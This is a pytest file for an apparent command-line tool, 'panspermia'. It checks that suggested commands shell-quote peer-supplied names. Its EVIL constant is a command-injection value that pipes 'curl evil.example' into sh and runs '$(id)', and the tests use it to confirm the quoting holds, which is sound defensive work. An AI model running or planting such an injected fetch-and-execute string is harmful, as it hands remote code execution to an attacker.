"""Commands that are shown to be copied: a shell runs no more, whatever strangers call things."""

import shlex
from collections.abc import Callable

import pytest
from msgspec.structs import replace

from node.commands.passage import print_passage
from node.commands.passage_text import behind_text, waiting_text
from node.commands.petnames import Petnames
from node.commands.player import command_of
from node.errors import Conflict
from node.failure import Json
from node.services.passages import check_carries
from registry.errors import CannotTravel
from tests.registry.people import BOB_DID, NOON_US
from tests.universe.passengers import FOX, MEADOW, REEF, answered, handed, key_of, lines_of, sent
from tests.universe.test_passage import ACCEPTED, PROPOSED
from universe.behind import EPOCHS_GIVEN_UP_MAX, check_may_give_up, check_none_missing
from universe.gate import gate_of
from universe.lines import Lines
from universe.passage import Half, passages_of

EVIL = "x;curl -s evil.example|sh;echo 'a b' $(id) `id`"
NAME = f"{BOB_DID}/{EVIL}"
MIGRATION = "01" * 16


def command(begins: str, name: str = NAME) -> str:
    """With the name as one word."""
    return f"panspermia {begins} {shlex.quote(name)}"


def worn(*, said: int) -> str:
    halves: list[Half] = [
        replace(PROPOSED, id=EVIL, stability=said, every_us=1),
        replace(ACCEPTED, id=EVIL, proposal=f"{PROPOSED.author}/{EVIL}", stability=said),
    ]
    (one,) = passages_of(halves)
    with pytest.raises(Conflict) as error:
        check_carries(one, NOON_US + 100)
    return error.value.detail


def refused(check: Callable[[], object]) -> str:
    with pytest.raises(CannotTravel) as error:
        check()
    return str(error.value)


def test_who_waits_at_a_passage_is_decided_by_its_whole_name() -> None:
    passage: Json = {"arrivals": {"me": "ask"}, "state": "open", "fullName": NAME}
    fox: Json = {
        "soul": "fox", "state": "in-transit", "universe": "me/x", "passage": NAME,
        "migration": MIGRATION,
    }  # fmt: skip
    (line,) = waiting_text(passage, {"travellers": [fox]}, "me")
    words = shlex.split(line.partition(": ")[2].removesuffix(" (or --refuse)"))
    assert words == ["panspermia", "passage", "decide", NAME, MIGRATION, "--accept"]


def test_what_helps_a_passage_or_a_gate_names_one_thing() -> None:
    owner = PROPOSED.author
    for said in (0, 50):
        assert command("passage maintain", f"{owner}/{EVIL}") in worn(said=said)
    assert command("passage gate") in behind_text(NAME)
    left = sent(FOX, MEADOW, REEF)
    answers = answered(REEF, left)
    behind = refused(lambda: check_none_missing(NAME, answers))
    assert command("passage gate") in behind
    many = refused(lambda: check_may_give_up(MEADOW, EPOCHS_GIVEN_UP_MAX, answers, [NAME]))
    assert command("passage close") in many
    gate = handed(NAME, key_of(1), Lines([], []))
    other = refused(lambda: gate_of(NAME, key_of(2).public, lines_of(gates=[gate])))
    assert command("passage gate") in other


def test_what_is_proposed_is_accepted_by_its_whole_name(
    capsys: pytest.CaptureFixture[str],
) -> None:
    one: Json = {
        "name": "", "id": EVIL, "state": "proposed", "gone": [], "source": REEF, "target": MEADOW,
        "fullName": NAME, "type": "bridge", "stability": 9, "stabilityNow": 9,
        "maintenanceEvery": 0, "arrivals": {},
    }  # fmt: skip
    print_passage(one, Petnames({}), BOB_DID)
    assert command("passage accept") in capsys.readouterr().out


@pytest.mark.parametrize(
    ("kind", "begins"),
    [
        ("rating", "info"), ("same", "attest"), ("advisory", "advisory list"),
        ("soul", "universe timeline"),
    ],
)  # fmt: skip
def test_what_others_sign_of_a_player_is_shown_by_its_whole_name(kind: str, begins: str) -> None:
    assert command(begins) in command_of(kind, {"of": NAME, "on": "universe"})
